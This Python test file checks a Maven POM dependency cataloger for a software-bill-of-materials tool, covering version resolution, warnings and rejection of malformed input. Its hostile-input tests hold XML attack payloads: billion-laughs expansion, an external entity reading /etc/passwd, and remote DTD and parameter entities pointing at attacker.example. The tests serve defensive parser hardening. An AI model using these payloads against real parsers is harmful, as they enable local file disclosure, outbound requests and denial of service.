from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings

from assay.sbom.catalogers.maven_pom import MavenPomCataloger
from assay.sbom.model import Scope
from tests.sbom.catalogers._hostile import (
    assert_refused,
    common_cases,
    format_text,
    garbage_10mb,
    read_or_refuse,
    run_common,
    write,
)

DATA = Path(__file__).parent / "testdata" / "maven_pom"
CAT = MavenPomCataloger()
DECLARED = "these are the dependencies declared in the POM; transitive dependencies cannot"


def test_matches_by_name() -> None:
    assert CAT.matches(Path("pom.xml"))
    assert CAT.matches(Path("WebGoat__WebGoat__6398d31c14__pom.xml"))
    assert not CAT.matches(Path("xpom.xml"))
    assert not CAT.matches(Path("pom.xml.bak"))


def test_webgoat(shared_data: Path) -> None:
    path = shared_data / "lockfiles" / "maven" / "WebGoat__WebGoat__6398d31c14__pom.xml"
    bom = CAT.read(path)
    got = {c.name: (c.version, c.scope) for c in bom}
    # resolved from <properties> through <dependencyManagement>
    assert got["com.thoughtworks.xstream:xstream"] == ("1.4.5", Scope.REQUIRED)
    assert got["org.apache.commons:commons-text"] == ("1.9", Scope.REQUIRED)
    assert got["io.jsonwebtoken:jjwt"] == ("0.9.1", Scope.REQUIRED)
    assert got["com.github.tomakehurst:wiremock"] == ("2.27.2", Scope.DEV)
    assert got["org.apache.commons:commons-exec"] == ("1.3", Scope.REQUIRED)
    assert got["org.projectlombok:lombok"] == ("", Scope.OPTIONAL)  # provided, version from parent
    # commons-collections 3.2.1 is only a <properties> entry in this POM, not a dependency
    assert "commons-collections:commons-collections" not in got
    assert len(bom) == 32
    assert all(c.direct and c.source == str(path) for c in bom)
    assert bom.components[0].purl == "pkg:maven/org.apache.commons/commons-exec@1.3"
    assert bom.subject is not None
    assert (bom.subject.name, bom.subject.version) == ("org.owasp.webgoat:webgoat", "2023.0")
    assert (
        bom.warnings[0]
        == f"{path}: {DECLARED} be resolved offline (run `mvn dependency:tree` for the full tree)"
    )
    unversioned = [c.name for c in bom if not c.version]
    assert len(bom.warnings) == 1 + len(unversioned) == 18
    assert bom.warnings[1] == (
        f"{path}:259: org.springframework.boot:spring-boot-starter-validation has no version here "
        "(it comes from the parent POM org.springframework.boot:spring-boot-starter-parent:2.7.1); "
        "kept without a version"
    )


def test_property_parent_and_management_resolution() -> None:
    path = DATA / "resolve" / "pom.xml"
    bom = CAT.read(path)
    got = {c.name: (c.version, c.scope, dict(c.properties)) for c in bom}
    assert got == {
        "com.example:example-core": ("2.1.0", Scope.REQUIRED, {}),  # ${project.groupId/version}
        "com.example:example-api": ("2.1.0", Scope.REQUIRED, {}),  # ${revision} -> parent version
        "com.fasterxml.jackson.core:jackson-databind": ("2.15.2", Scope.REQUIRED, {}),
        "org.slf4j:slf4j-api": ("2.0.7", Scope.REQUIRED, {"maven:scope": "runtime"}),
        "org.springframework:spring-core": ("", Scope.REQUIRED, {}),
        "org.projectlombok:lombok": ("1.18.28", Scope.OPTIONAL, {"maven:scope": "provided"}),
        "com.oracle:ojdbc": ("19.3", Scope.OPTIONAL, {"maven:scope": "system"}),
        "com.h2database:h2": ("2.2.220", Scope.OPTIONAL, {}),  # <optional>true; profile copy loses
        "org.junit.jupiter:junit-jupiter": ("5.10.0", Scope.DEV, {"maven:scope": "test"}),
        "io.secret:from-env": ("", Scope.REQUIRED, {}),
        "org.odd:odd-scope": ("1.0", Scope.REQUIRED, {"maven:scope": "compileOnly"}),
        "org.postgresql:postgresql": ("42.6.0", Scope.OPTIONAL, {"maven:profile": "postgres"}),
    }
    assert bom.subject is not None
    s = bom.subject
    assert (s.name, s.version, s.namespace, s.kind) == (
        "com.example:example-service",
        "2.1.0",
        "com.example",
        "application",
    )
    assert s.description == "A service that has dependencies."
    assert s.external_refs == (
        ("website", "https://example.com/service"),
        ("vcs", "https://git.example.com/service"),
    )
    assert bom.warnings[1:] == [
        f"{path}:68: org.springframework:spring-core has no version here (it comes from the parent "
        "POM com.example:example-parent:2.1.0 or the imported BOM "
        "org.springframework:spring-framework-bom:6.0.11); kept without a version",
        f"{path}:97: io.secret:from-env version ${{env.SECRET_VERSION}} uses a property this file "
        "does not define; kept without a version",
        f"{path}:102: org.odd:odd-scope has unknown scope compileOnly; taken as compile",
    ]


def test_pom_without_namespace_or_dependencies(tmp_path: Path) -> None:
    text = b"<project><groupId>g</groupId><artifactId>a</artifactId><version>1</version></project>"
    bom = CAT.read(write(tmp_path, "pom.xml", text))
    assert len(bom) == 0
    assert bom.subject is not None and bom.subject.name == "g:a"
    assert len(bom.warnings) == 1 and DECLARED in bom.warnings[0]


def test_latin1_pom_with_declaration_is_read(tmp_path: Path) -> None:
    text = (
        '<?xml version="1.0" encoding="ISO-8859-1"?>\n<project><description>caf\xe9</description>'
        "<groupId>g</groupId><artifactId>a</artifactId></project>"
    ).encode("latin-1")
    bom = CAT.read(write(tmp_path, "pom.xml", text))
    assert bom.subject is not None and bom.subject.description == "café"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<project><version>&lol3;</version></project>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<project><version>&xxe;</version></project>
"""
REMOTE_DTD = b"""<!-- a comment before the DTD -->
<!DOCTYPE project SYSTEM "http://attacker.example/evil.dtd">
<project/>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE project [<!ENTITY % remote SYSTEM "http://attacker.example/x"> %remote;]>
<project/>
"""


@pytest.mark.parametrize(
    ("data", "line"),
    [(BILLION_LAUGHS, 2), (XXE, 2), (REMOTE_DTD, 2), (PARAMETER_ENTITY, 2)],
    ids=["billion-laughs", "external-entity", "remote-dtd", "parameter-entity"],
)
def test_hostile_xml_refused(tmp_path: Path, data: bytes, line: int) -> None:
    exc = assert_refused(
        CAT,
        write(tmp_path, "pom.xml", data),
        r"XML (DTD|entity|external reference) declarations are not accepted",
        line=line,
    )
    assert "root:" not in str(exc)  # nothing of /etc/passwd leaks into the message


@pytest.mark.parametrize("case", sorted(c for c in common_cases() if c != "latin1"))
def test_common_bad_inputs(tmp_path: Path, case: str) -> None:
    run_common(CAT, tmp_path, "pom.xml", case)


@pytest.mark.parametrize(
    ("data", "reason", "line"),
    [
        (b"<project>\n<dependencies>\n<dependency>", r"invalid XML: no element found", 3),
        (b"<project>\n</dependencies>", r"invalid XML: mismatched tag", 2),
        (b'name = "caf\xe9"\n', r"invalid XML: syntax error", 1),
        (b'{"project": 1}', r"invalid XML: not well-formed", 1),
        (b"<settings/>", r"root element is <settings>, expected <project> \(Maven POM\)", 1),
        (
            b"<project><dependencies><dependency><groupId>a\x01</groupId>",
            r"invalid XML: not well-formed",
            1,
        ),
    ],
)
def test_malformed_refused(tmp_path: Path, data: bytes, reason: str, line: int) -> None:
    assert_refused(CAT, write(tmp_path, "pom.xml", data), reason, line=line)


def test_control_characters_in_coordinates_refused(tmp_path: Path) -> None:
    data = (
        b"<project><dependencies><dependency>\n<groupId>a\nb</groupId></dependency></dependencies>"
    )
    data += b"</project>"
    assert_refused(
        CAT, write(tmp_path, "pom.xml", data), r"<groupId> a\\nb has control characters", line=2
    )


def test_property_expansion_bomb_refused(tmp_path: Path) -> None:
    props = "".join(f"<p{i}>{('${p' + str(i - 1) + '}') * 10}</p{i}>" for i in range(1, 12))
    data = (
        f"<project><properties><p0>lol</p0>{props}</properties><dependencies><dependency>"
        "<groupId>g</groupId><artifactId>a</artifactId><version>${p11}</version>"
        "</dependency></dependencies></project>"
    ).encode()
    assert_refused(CAT, write(tmp_path, "pom.xml", data), r"expands to more than 1024 characters")


def test_deeply_nested_xml_is_refused_or_read(tmp_path: Path) -> None:
    data = b"<project>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</project>"
    bom = CAT.read(write(tmp_path, "pom.xml", data))
    assert len(bom) == 0


def test_garbage_refused(tmp_path: Path) -> None:
    assert_refused(CAT, write(tmp_path, "pom.xml", garbage_10mb()), "invalid XML", line=1)


@settings(max_examples=150, deadline=None)
@given(
    format_text(
        [
            "<project>",
            "</project>",
            "<dependencies>",
            "</dependencies>",
            "<dependency>",
            "</dependency>",
            "<groupId>g</groupId>",
            "<artifactId>a</artifactId>",
            "<version>${v}</version>",
            "<properties><v>1</v></properties>",
            "<scope>test</scope>",
            "<!DOCTYPE x>",
            "&amp;",
            "\n",
        ]
    )
)
def test_any_text_reads_or_refuses(text: str) -> None:
    read_or_refuse(CAT, "pom.xml", text.encode())
